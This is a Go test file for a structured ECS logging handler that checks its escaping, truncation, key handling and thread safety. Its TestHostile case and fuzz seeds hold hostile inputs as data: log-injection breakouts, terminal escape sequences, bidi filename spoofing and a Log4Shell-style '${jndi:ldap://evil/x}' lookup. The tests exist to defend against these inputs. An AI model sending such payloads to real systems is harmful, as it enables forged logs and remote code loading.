package ecslog_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"math"
	"net/netip"
	"runtime/debug"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/slogtest"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/handstamp/handstamp/internal/ecslog"
	"github.com/handstamp/handstamp/internal/secret"
)

var moment = time.Date(2026, 7, 1, 12, 30, 0, 123_456_789, time.FixedZone("", 2*60*60))

// logged returns what a handler writes for a record.
func logged(t testing.TB, format ecslog.Format, message string, attrs ...slog.Attr) string {
	t.Helper()
	var buf bytes.Buffer
	r := slog.NewRecord(moment, slog.LevelInfo, message, 0)
	r.AddAttrs(attrs...)
	if err := ecslog.New(&buf, format, slog.LevelInfo).Handle(t.Context(), r); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

// TestLine shows what a line looks like.
func TestLine(t *testing.T) {
	attrs := []slog.Attr{
		slog.String("event.action", "login"),
		slog.String("event.outcome", "failure"),
		slog.String("user.id", "8a6ddd2b-4d3b-4a2a-9d1e-2a0a8e5b9a0c"),
		slog.Any("source.ip", netip.MustParseAddr("192.0.2.7")),
		slog.Int("http.response.status_code", 401),
		slog.Duration("event.duration", 1500*time.Microsecond),
		slog.String("user.name", `Ada "the first" Lovelace ünï`),
		slog.Group("url", slog.String("path", "/api/v1/me")),
		slog.Any("error", errors.New("wrong password")),
		slog.Bool("tls.established", true),
		slog.Any("tags", []string{"a", "b\n"}),
		slog.Float64("ratio", math.NaN()),
		slog.Time("at", moment),
		slog.Any("key", secret.New("hunter2")),
	}
	const wantJSON = `{"@timestamp":"2026-07-01T10:30:00.123Z","log.level":"info","message":"sign in","ecs.version":"8.17.0",` +
		`"event.action":"login","event.outcome":"failure","user.id":"8a6ddd2b-4d3b-4a2a-9d1e-2a0a8e5b9a0c","source.ip":"192.0.2.7",` +
		`"http.response.status_code":401,"event.duration":1500000,"user.name":"Ada \"the first\" Lovelace ünï","url.path":"/api/v1/me",` +
		`"error.message":"wrong password","tls.established":true,"tags":["a","b\n"],"ratio":"NaN","at":"2026-07-01T10:30:00.123Z","key":"•••"}` + "\n"
	if diff := cmp.Diff(wantJSON, logged(t, ecslog.JSON, "sign in", attrs...)); diff != "" {
		t.Error(diff)
	}
	wantText := moment.Local().Format("15:04:05.000") + ` INFO  sign in event.action=login event.outcome=failure ` +
		`user.id=8a6ddd2b-4d3b-4a2a-9d1e-2a0a8e5b9a0c source.ip=192.0.2.7 http.response.status_code=401 event.duration=1.5ms ` +
		`user.name="Ada \"the first\" Lovelace ünï" url.path=/api/v1/me error.message="wrong password" tls.established=true ` +
		`tags=["a","b\n"] ratio="NaN" at="2026-07-01T10:30:00.123Z" key=•••` + "\n"
	if diff := cmp.Diff(wantText, logged(t, ecslog.Text, "sign in", attrs...)); diff != "" {
		t.Error(diff)
	}
}

// TestHostile: whatever a stranger sends, there is one line, of a bounded length, in which nothing
// acts, and from which a program gets back what was sent.
func TestHostile(t *testing.T) {
	for name, text := range map[string]string{
		"line end":           "eve\r\n{\"message\":\"login\",\"user.id\":\"root\"}\n",
		"JSON break":         `eve","event.outcome":"success","x":"`,
		"backslash":          `eve\`,
		"escape sequence":    "eve\x1b[2K\x1b[1A\x1b]0;title\x07",
		"C1 control":         "eve\u009b31m\u0085",
		"bidi":               "eve\u202egpj.exe\u2066\u2069\u200f\u061c",
		"zero width, tags":   "e\u200bv\ufeffe\U000e0041\U000e007f",
		"line separators":    "eve\u2028\u2029\v\f",
		"NUL and delete":     "eve\x00\x7f",
		"lookup":             "${jndi:ldap://evil/x} $${env:HOME} $ $x {}",
		"blanks":             " eve =\"admin\" role=admin",
		"private use, emoji": "\ue000\U000f0000 😀",
	} {
		line := logged(t, ecslog.JSON, text, slog.String("user.name", text), slog.Any("error", errors.New(text)), slog.Any("tags", []string{text}),
			slog.String(text, "key"))
		assertSafe(t, name, line)
		got := parsed(t, name, line)
		want := map[string]any{
			"@timestamp": "2026-07-01T10:30:00.123Z", "log.level": "info", "ecs.version": "8.17.0",
			"message": text, "user.name": text, "error.message": text, "tags": []any{text}, text: "key",
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s: %s", name, diff)
		}
		assertSafe(t, name+" as text", logged(t, ecslog.Text, text, slog.String("user.name", text), slog.Any("error", errors.New(text))))
	}
}

// TestTextShowsWhoSaidIt: as text, too, nobody can add an attribute by a value or message.
func TestTextShowsWhoSaidIt(t *testing.T) {
	line := logged(t, ecslog.Text, "http: bad request role=admin", slog.String("user.name", `eve" role=admin`), slog.String("x", ""))
	const want = `"http: bad request role=admin" user.name="eve\" role=admin" x=""` + "\n"
	if !strings.HasSuffix(line, want) {
		t.Errorf("got %s", line)
	}
}

// TestInvalidUTF8: what is no text becomes U+FFFD, and stays in its string.
func TestInvalidUTF8(t *testing.T) {
	line := logged(t, ecslog.JSON, "m", slog.String("a", "x\xff\xc0\xaf\xed\xa0\x80y"), slog.String("b", "\xf0\x9f\x98"))
	assertSafe(t, "JSON", line)
	got := parsed(t, "JSON", line)
	if got["a"] != "x"+strings.Repeat("\ufffd", 6)+"y" || got["b"] != strings.Repeat("\ufffd", 3) {
		t.Errorf("%q %q", got["a"], got["b"])
	}
}

// TestCut: a name of a megabyte is cut where a character begins, and the line says how long it was.
func TestCut(t *testing.T) {
	for text, want := range map[string]string{
		strings.Repeat("x", 512):          strings.Repeat("x", 512),
		strings.Repeat("x", 513):          strings.Repeat("x", 512) + "… (513 bytes)",
		strings.Repeat("x", 1<<20):        strings.Repeat("x", 512) + "… (1048576 bytes)",
		"x" + strings.Repeat("é", 400):    "x" + strings.Repeat("é", 255) + "… (801 bytes)",
		"xyz" + strings.Repeat("😀", 1000): "xyz" + strings.Repeat("😀", 127) + "… (4003 bytes)",
	} {
		for how, attr := range map[string]slog.Attr{
			"string": slog.String("k", text), "error": slog.Any("k", errors.New(text)),
		} {
			got := parsed(t, how, logged(t, ecslog.JSON, text, attr))
			if got["k"] != want || got["message"] != want {
				t.Errorf("%s of %d bytes: %.600v", how, len(text), got["k"])
			}
		}
		if line := logged(t, ecslog.Text, text, slog.String("k", text)); len(line) > 3000 || strings.Count(line, "\n") != 1 {
			t.Errorf("text has %d bytes", len(line))
		}
	}
	list := parsed(t, "list", logged(t, ecslog.JSON, "m", slog.Any("k", make([]string, 1000))))["k"].([]any)
	if len(list) != 33 || list[32] != "… 1000 in all" {
		t.Errorf("%d elements, at last %v", len(list), list[len(list)-1])
	}
}

// TestStackTrace is ours, and long.
func TestStackTrace(t *testing.T) {
	stack := strings.Repeat(string(debug.Stack()), 5)
	if got := parsed(t, "stack", logged(t, ecslog.JSON, "panic", slog.String("error.stack_trace", stack))); got["error.stack_trace"] != stack {
		t.Errorf("got %s", got["error.stack_trace"])
	}
}

type panics struct{}

func (panics) Error() string { panic("in Error") }

type shouts struct{}

func (shouts) LogValue() slog.Value { panic("in LogValue") }

// TestOddValues: a value that breaks does not take the line with it.
func TestOddValues(t *testing.T) {
	var nilError *panics
	line := logged(t, ecslog.JSON, "m",
		slog.Any("panics", panics{}), slog.Any("nil", nil), slog.Any("nil error", nilError), slog.Any("log value", shouts{}),
		slog.Any("map", map[string]any{"k": secret.New("hunter2")}), slog.Any("func", func() {}), slog.Float64("inf", math.Inf(-1)),
		slog.Float64("big", 1e300), slog.Uint64("u", math.MaxUint64), slog.Any("bytes", []byte("a\n")),
	)
	assertSafe(t, "odd", line)
	got := parsed(t, "odd", line)
	if s := fmt.Sprint(got["panics"]); !strings.Contains(s, "in Error") {
		t.Error(s)
	}
	if got["map"] != "map[k:•••]" || got["inf"] != "-Inf" || got["big"] != 1e300 {
		t.Errorf("%v", got)
	}
}

// TestKeys: nobody else writes the keys that a line has, and none is there twice.
func TestKeys(t *testing.T) {
	var buf bytes.Buffer
	log := slog.New(ecslog.New(&buf, ecslog.JSON, slog.LevelInfo)).With("user.id", "first", "message", "mine")
	log.WithGroup("http").With("request.method", "GET").Info("m", "user.id", "inner", "log.level", "x")
	log.Info("m", "user.id", "second", "@timestamp", "x", "log.level", "x", "ecs.version", "x")
	lines := strings.SplitAfter(buf.String(), "\n")
	for i, want := range []map[string]string{
		{"user.id": "first", "labels.message": "mine", "http.request.method": "GET", "http.user.id": "inner", "http.log.level": "x"},
		{"user.id": "second", "labels.message": "mine", "labels.@timestamp": "x", "labels.log.level": "x", "labels.ecs.version": "x"},
	} {
		got := parsed(t, "keys", lines[i])
		for key, value := range want {
			if got[key] != value {
				t.Errorf("line %d: %s is %v, want %s", i, key, got[key], value)
			}
		}
		if n := strings.Count(lines[i], `"user.id"`); len(got) != len(want)+4 || n != 1 {
			t.Errorf("line %d: %s", i, lines[i])
		}
	}
}

// TestSiblings: two loggers that come from one do not share what they add.
func TestSiblings(t *testing.T) {
	var buf bytes.Buffer
	parent := slog.New(ecslog.New(&buf, ecslog.JSON, slog.LevelInfo)).With("a", 1, "b", 2, "c", 3)
	one := parent.With("who", "one")
	_ = parent.With("who", "two")
	one.Info("m")
	if got := parsed(t, "siblings", buf.String()); got["who"] != "one" {
		t.Errorf("%s", &buf)
	}
}

// TestSlog is what package slog asks of every handler, with our names put back into its own.
func TestSlog(t *testing.T) {
	var buf bytes.Buffer
	slogtest.Run(t, func(*testing.T) slog.Handler {
		buf.Reset()
		return ecslog.New(&buf, ecslog.JSON, slog.LevelInfo)
	}, func(t *testing.T) map[string]any {
		flat, nested := parsed(t, "slogtest", buf.String()), map[string]any{}
		delete(flat, "ecs.version")
		for ours, theirs := range map[string]string{"@timestamp": slog.TimeKey, "log.level": slog.LevelKey, "message": slog.MessageKey} {
			if value, ok := flat[ours]; ok {
				flat[theirs] = value
				delete(flat, ours)
			}
		}
		for key, value := range flat {
			into := nested
			names := strings.Split(key, ".")
			for _, name := range names[:len(names)-1] {
				if into[name] == nil {
					into[name] = map[string]any{}
				}
				into = into[name].(map[string]any)
			}
			into[names[len(names)-1]] = value
		}
		return nested
	})
}

// TestLevelChanges while the server runs.
func TestLevelChanges(t *testing.T) {
	var buf bytes.Buffer
	level := new(slog.LevelVar)
	log := slog.New(ecslog.New(&buf, ecslog.JSON, level))
	log.Debug("unseen")
	level.Set(slog.LevelDebug)
	log.Debug("seen")
	if text := buf.String(); strings.Contains(text, "unseen") || !strings.Contains(text, `"log.level":"debug","message":"seen"`) {
		t.Error(text)
	}
}

// TestConcurrent: lines do not run into each other, and no handler writes for another.
func TestConcurrent(t *testing.T) {
	var buf bytes.Buffer
	base := slog.New(ecslog.New(&buf, ecslog.JSON, slog.LevelInfo)).With("a", 1)
	var writers sync.WaitGroup
	for i := range 8 {
		writers.Go(func() {
			log := base.With("writer", i)
			for j := range 200 {
				log.Info("m", "n", j, "writer again", i, "long", strings.Repeat("x", j))
			}
		})
	}
	writers.Wait()
	lines := slices.Collect(strings.Lines(buf.String()))
	if len(lines) != 1600 {
		t.Errorf("%d lines", len(lines))
	}
	for _, line := range lines {
		if got := parsed(t, "concurrent", line); got["writer"] != got["writer again"] {
			t.Fatalf("mixed: %s", line)
		}
	}
}

// FuzzLine: whatever is logged is one line, which is JSON.
func FuzzLine(f *testing.F) {
	for _, text := range []string{"", "m", "a\r\n\"\\${\u202e\x00\xff", strings.Repeat("é", 600), "\xf0\x9f"} {
		f.Add(text, text, text)
	}
	f.Fuzz(func(t *testing.T, message, key, value string) {
		line := logged(t, ecslog.JSON, message, slog.String(key, value), slog.Any("error", errors.New(value)), slog.Any("list", []string{value}))
		assertSafe(t, "JSON", line)
		got := parsed(t, "JSON", line)["error.message"]
		if len(value) <= 512 && validUTF8(value) && got != value {
			t.Errorf("%q became %q", value, got)
		}
		assertSafe(t, "text", logged(t, ecslog.Text, message, slog.String(key, value), slog.Any("error", errors.New(value))))
	})
}

func validUTF8(s string) bool { return strings.ToValidUTF8(s, "") == s }

// assertSafe checks that there is one line, and nothing in it that acts on a terminal or reader.
func assertSafe(t testing.TB, name, line string) {
	t.Helper()
	body, ended := strings.CutSuffix(line, "\n")
	unsafe := func(r rune) bool {
		return r < ' ' || 0x7f <= r && r < 0xa0 || r == 0xad || r == 0x61c || 0x200b <= r && r <= 0x200f || 0x2028 <= r && r <= 0x202e ||
			0x2066 <= r && r <= 0x2069 || r == 0xfeff || 0xe0000 <= r && r <= 0xe007f
	}
	if !ended || strings.ContainsFunc(body, unsafe) || strings.Contains(body, "${") || !validUTF8(body) {
		t.Errorf("%s: %q", name, line)
	}
}

func parsed(t testing.TB, name, line string) map[string]any {
	t.Helper()
	var got map[string]any
	if err := json.Unmarshal([]byte(line), &got); err != nil {
		t.Fatalf("%s: %v in %q", name, err, line)
	}
	return got
}
